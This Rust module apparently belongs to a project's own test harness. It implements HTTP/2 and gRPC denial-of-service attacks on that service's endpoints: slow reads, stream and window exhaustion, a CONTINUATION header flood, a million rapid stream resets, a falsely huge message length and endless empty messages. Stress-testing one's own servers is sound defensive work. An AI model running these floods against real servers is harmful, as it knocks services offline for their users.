//! Attacks with calls of gRPC over raw HTTP/2.

use std::io;
use std::net::IpAddr;
use std::time::Duration;

use socket2::SockRef;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::time::sleep;

use crate::http2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, Http2, INITIAL_WINDOW, PREFACE,
    RST_STREAM, SETTINGS, WINDOW_UPDATE, field, frame, grpc, part, prefix,
};
use crate::network::Door;

/// Asks for lists and watches with the largest window, and reads nothing.
pub(crate) async fn slow(mut stream: TcpStream, _: IpAddr) -> io::Result<()> {
    SockRef::from(&stream).set_recv_buffer_size(4096)?;
    let window = [&[0, INITIAL_WINDOW], &WINDOW_MAX.to_be_bytes()[..]].concat();
    let mut octets = [PREFACE, &frame(SETTINGS, 0, 0, &window)].concat();
    octets.extend(frame(
        WINDOW_UPDATE,
        0,
        0,
        &(WINDOW_MAX - 65_535).to_be_bytes(),
    ));
    for number in 0..100 {
        let stream = 2 * number + 1;
        let (path, message): (_, &[u8]) = if number % 2 == 0 {
            ("/weft.v1.RouteService/ListRoutes", &[])
        } else {
            // WatchRequest.routes, empty: all.
            ("/weft.v1.WatchService/Watch", &[0x2a, 0])
        };
        octets.extend(frame(HEADERS, END_HEADERS, stream, &grpc(path)));
        octets.extend(frame(DATA, END_STREAM, stream, &part(message)));
    }
    stream.write_all(&octets).await?;
    while stream.writable().await.is_ok() {
        sleep(Duration::from_secs(1)).await;
        // A server that has closed answers this with a reset.
        stream
            .write_all(&frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]))
            .await?;
    }
    Ok(())
}

/// Opens streams, each with the begin of a message of 4 MiB.
pub(crate) async fn streams(stream: TcpStream, door: Door, count: u32) -> io::Result<()> {
    let path = match door {
        Door::Raft => DELIVER,
        Door::Agent => "/gribi.gRIBI/Modify",
        Door::Bgp | Door::Api | Door::Metrics => CREATE,
    };
    let mut connection = Http2::open(stream).await?;
    for _ in 0..count {
        let stream = connection.call(path, None).await?;
        connection.fill(stream).await?;
    }
    // Until the connection ends.
    while connection.ended.recv().await.is_some() {}
    Ok(())
}

/// Keeps exports, each begun again when it ends, and takes no more of them than the first window.
pub(crate) async fn exports(stream: TcpStream, count: u32) -> io::Result<()> {
    let mut connection = Http2::open(stream).await?;
    let path = "/weft.v1.RouteService/ExportMrt";
    for _ in 0..count {
        connection.call(path, Some(&[])).await?;
    }
    while connection.ended.recv().await.is_some() {
        sleep(Duration::from_millis(5)).await;
        connection.call(path, Some(&[])).await?;
    }
    Ok(())
}

/// Keeps two ApplyFabric that bring nothing.
pub(crate) async fn hanging(stream: TcpStream, _: IpAddr) -> io::Result<()> {
    let mut connection = Http2::open(stream).await?;
    connection.call(APPLY, None).await?;
    connection.call(APPLY, None).await?;
    while connection.ended.recv().await.is_some() {
        sleep(Duration::from_millis(100)).await;
        connection.call(APPLY, None).await?;
    }
    Ok(())
}

/// A header block of 1 MiB in CONTINUATION frames (RFC 9113 §6.10).
pub(crate) async fn headers(stream: TcpStream, _: IpAddr) -> io::Result<()> {
    let mut connection = Http2::open(stream).await?;
    connection.send(&frame(HEADERS, 0, 1, &grpc(APPLY))).await?;
    let field = field("x", &"x".repeat(16_000));
    for _ in 0..64 {
        connection.send(&frame(CONTINUATION, 0, 1, &field)).await?;
    }
    connection
        .send(&frame(CONTINUATION, END_HEADERS, 1, &[]))
        .await?;
    connection.ended.recv().await;
    Ok(())
}

/// Streams that are reset at once, a million of them.
pub(crate) async fn resets(stream: TcpStream, _: IpAddr) -> io::Result<()> {
    let mut connection = Http2::open(stream).await?;
    let headers = grpc("/weft.v1.FabricService/GetFabric");
    for first in (0..1_000_000).step_by(100) {
        let mut octets = Vec::new();
        for number in first..first + 100 {
            let stream = 2 * number + 1;
            octets.extend(frame(HEADERS, END_HEADERS, stream, &headers));
            octets.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
        }
        connection.send(&octets).await?;
        while connection.ended.try_recv().is_ok() {}
    }
    Ok(())
}

/// A message that claims 4 GiB, and octets of it.
pub(crate) async fn claim(stream: TcpStream, door: Door) -> io::Result<()> {
    let mut connection = Http2::open(stream).await?;
    let path = if door == Door::Raft { DELIVER } else { CREATE };
    connection.call(path, None).await?;
    connection.pour(&prefix(u32::MAX)).await?;
    let octets = vec![0; 16_384];
    loop {
        connection.pour(&octets).await?;
    }
}

/// Parts of a fabric without end; each is empty.
pub(crate) async fn endless(stream: TcpStream, _: IpAddr) -> io::Result<()> {
    let mut connection = Http2::open(stream).await?;
    connection.call(APPLY, None).await?;
    let parts = part(&[]).repeat(3_000);
    loop {
        connection.pour(&parts).await?;
    }
}

const APPLY: &str = "/weft.v1.FabricService/ApplyFabric";
const CREATE: &str = "/weft.v1.JobService/CreateJob";
const DELIVER: &str = "/weft.consensus.v1.Consensus/Deliver";
const WINDOW_MAX: u32 = (1 << 31) - 1;
